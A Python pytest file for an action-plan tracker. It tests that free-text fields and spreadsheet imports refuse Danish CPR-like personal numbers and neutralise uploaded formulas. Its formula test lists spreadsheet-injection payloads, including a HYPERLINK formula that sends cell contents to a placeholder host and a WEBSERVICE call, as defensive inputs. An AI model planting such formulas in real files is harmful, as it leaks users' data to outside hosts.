"""No personal data is stored anywhere (issue 10, items 8-10).

Every free-text field the tracker stores refuses CPR-shaped text in every variant class; look-alikes pass;
a refused upload keeps its error list but no copy of the refused value; sheets the import does not read are
not kept; no file the tracker serves contains a formula.
"""

import io
import re
import zipfile

import httpx
import openpyxl
import pytest

from actionplan.cpr import find_cpr_like
from tests.cpr_corpus import HARMLESS, VARIANTS
from tests.fixture_types import Client
from tests.tracker.progress_support import INITIATIVE, PERIOD, REPORT_URL, fingerprint, report_body

pytestmark = pytest.mark.usefixtures("plan_loaded")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _report_with(field: str, value: str) -> tuple[str, str, dict[str, object]]:
    if field == "indicator_comment":
        values = [{"indicator": "MH22-2.1-I1", "value": 3, "comment": value}]
        return "PUT", REPORT_URL, report_body(indicator_values=values)
    if field == "explanation":
        return "PUT", REPORT_URL, report_body(status="delayed", explanation=value)
    return "PUT", REPORT_URL, report_body(**{field: value})


FIELDS = {
    # field: (who writes, how) -- every free-text field the API stores
    "narrative": "reporter",
    "next_steps": "reporter",
    "risks": "reporter",
    "explanation": "reporter",
    "forecast_note": "reporter",
    "indicator_comment": "reporter",
    "return_comment": "secretariat",
    "approve_comment": "secretariat",
    "lock_reason": "secretariat",
    "unlock_reason": "secretariat",
    "token_label": "secretariat",
}


def _request(field: str, value: str) -> tuple[str, str, dict[str, object]]:
    if field == "return_comment":
        return "POST", f"{REPORT_URL}/return", {"comment": value}
    if field == "approve_comment":
        return "POST", f"{REPORT_URL}/approve", {"comment": value}
    if field == "lock_reason":
        return "POST", f"/periods/{PERIOD}/lock", {"reason": value}
    if field == "unlock_reason":
        return "POST", f"/periods/{PERIOD}/unlock", {"reason": value}
    if field == "token_label":
        return "POST", "/tokens", {"organisation": "REDEN", "role": "reporter", "label": value}
    return _report_with(field, value)


@pytest.fixture
def submitted(plan_loaded, client, make_headers):
    reden = make_headers("REDEN", "reporter")
    assert client.put(REPORT_URL, json=report_body(), headers=reden).status_code == 201
    assert client.post(f"{REPORT_URL}/submit", headers=reden).status_code == 200


@pytest.mark.usefixtures("submitted")
@pytest.mark.parametrize("field", list(FIELDS))
def test_every_stored_text_field_refuses_every_cpr_variant(client, engine, make_headers, field):
    headers = make_headers("REDEN", "reporter") if FIELDS[field] == "reporter" else make_headers("CMM", "secretariat")
    url_check = f"/initiatives/{INITIATIVE}/reports/2025-H1"  # a period with no report: the PUT creates one
    before = fingerprint(engine)
    for variant in VARIANTS:
        method, url, body = _request(field, variant)
        if method == "PUT":
            url = url_check
        response = client.request(method, url, json=body, headers=headers)
        assert response.status_code == 422, (field, variant, response.text)
        assert "aggregate" in response.text
        assert find_cpr_like(response.text) is None, response.text
    assert fingerprint(engine) == before


@pytest.mark.parametrize("field", ["narrative", "indicator_comment", "return_comment", "token_label"])
def test_dates_phone_numbers_amounts_and_codes_are_accepted(client, make_headers, field):
    reden = make_headers("REDEN", "reporter")
    headers = reden if FIELDS[field] == "reporter" else make_headers("CMM", "secretariat")
    if FIELDS[field] == "secretariat":
        assert client.put(REPORT_URL, json=report_body(), headers=reden).status_code == 201
        assert client.post(f"{REPORT_URL}/submit", headers=reden).status_code == 200
    etag: str | None = None
    for text in HARMLESS:
        method, url, body = _request(field, text)
        version = {"If-Match": etag} if method == "PUT" and etag else {}
        response = client.request(method, url, json=body, headers=headers | version)
        if method == "PUT":  # the text is stored: each save at the version just read
            assert response.status_code in (200, 201), response.text
            etag = response.headers["etag"]
        else:  # a second return, approval or lock meets the state the first left (409); the text passed
            assert response.status_code in (200, 201, 409), response.text


# ---------------------------------------------------------------------------------------------- imports


def _template(client: Client, headers: dict[str, str]) -> openpyxl.Workbook:
    response = client.get(f"/templates/progress?period={PERIOD}&organisation=REDEN", headers=headers)
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    workbook["Rapporter"]["E2"] = "Planmæssigt"
    return workbook


def _bytes(workbook: openpyxl.Workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _without_digest(response: httpx.Response) -> str:
    """The response text without the file's SHA-256 digest: 64 hex characters can by chance hold ten
    digits that form a date (CI met '...2709705638...'), and a digest of the file is no personal data."""
    return re.sub(r"\b[0-9a-f]{64}\b", "<sha256>", response.text)


def _all_text(data: bytes) -> str:
    """Every string in an xlsx: cell values, comments, sheet names, defined names."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "\n".join(archive.read(n).decode("utf-8", "replace") for n in archive.namelist())


def _no_formulas(data: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    return all(b"<f>" not in s and b"<f " not in s for s in sheets)


PLACES = {
    # where in the template: (sheet, cell)
    "narrative": ("Rapporter", "F2"),
    "risks": ("Rapporter", "H2"),
    "indicator comment": ("Indikatorer", "H2"),
    "a notes column": ("Rapporter", "K2"),
    "a header": ("Rapporter", "L1"),
}


@pytest.mark.parametrize("variant", VARIANTS)
@pytest.mark.parametrize("place", list(PLACES))
def test_a_cpr_number_in_any_cell_is_refused_and_stored_nowhere(client, engine, make_headers, place, variant):
    headers = make_headers("REDEN", "reporter")
    workbook = _template(client, headers)
    workbook["Rapporter"]["K1"] = "Noter"
    sheet, cell = PLACES[place]
    workbook[sheet][cell] = variant
    before = fingerprint(engine)
    response = client.post("/imports", files={"file": (f"{variant}.xlsx", _bytes(workbook), XLSX)}, headers=headers)
    assert response.status_code == 422, response.text
    body = response.json()
    assert any(e["code"] == "personal-data" and e["cell"] == cell for e in body["errors"]), body["errors"]
    assert find_cpr_like(_without_digest(response)) is None
    stored = client.get(f"/imports/{body['id']}", headers=headers)
    assert find_cpr_like(_without_digest(stored)) is None
    annotated = client.get(body["annotated_url"], headers=headers).content
    assert find_cpr_like(_all_text(annotated)) is None
    assert openpyxl.load_workbook(io.BytesIO(annotated))[sheet][cell].value is None
    changed = {t for t, h in fingerprint(engine).items() if before[t] != h}
    assert changed <= {"import_batch"}


def test_sheets_the_import_does_not_read_are_named_and_not_kept(client, make_headers):
    headers = make_headers("REDEN", "reporter")
    workbook = _template(client, headers)
    extra = workbook.create_sheet("Mine noter")
    extra["A1"] = "Borger 010165-1234 ringede"
    workbook["Rapporter"]["E2"] = "Måske"  # an error, so there is an annotated copy
    response = client.post("/imports?dry_run=true", files={"file": ("x.xlsx", _bytes(workbook), XLSX)}, headers=headers)
    assert response.status_code == 422
    body = response.json()
    assert [w["sheet"] for w in body["warnings"] if w["code"] == "sheet-not-read"] == ["Vejledning", "Mine noter"]
    annotated = client.get(body["annotated_url"], headers=headers).content
    assert "Mine noter" not in openpyxl.load_workbook(io.BytesIO(annotated)).sheetnames
    assert find_cpr_like(_all_text(annotated)) is None
    assert client.get(f"/imports/{body['id']}", headers=headers).json()["warnings"] == body["warnings"]


@pytest.mark.parametrize(
    "formula",
    ['=HYPERLINK("http://x.invalid/?q="&A1,"klik")', '=WEBSERVICE("http://x.invalid/")', "=1+1", "=SUM(A1:A2)"],
)
def test_annotated_copies_carry_uploaded_formulas_as_text(client, make_headers, formula):
    headers = make_headers("REDEN", "reporter")
    workbook = _template(client, headers)
    workbook["Rapporter"]["F2"] = formula
    workbook["Indikatorer"]["H2"] = formula
    response = client.post("/imports", files={"file": ("x.xlsx", _bytes(workbook), XLSX)}, headers=headers)
    assert response.status_code == 422
    assert {e["code"] for e in response.json()["errors"]} == {"formula-not-allowed"}
    annotated = client.get(response.json()["annotated_url"], headers=headers).content
    assert _no_formulas(annotated)
    copy = openpyxl.load_workbook(io.BytesIO(annotated))
    assert copy["Rapporter"]["F2"].value == formula
    assert copy["Rapporter"]["F2"].data_type == "s"
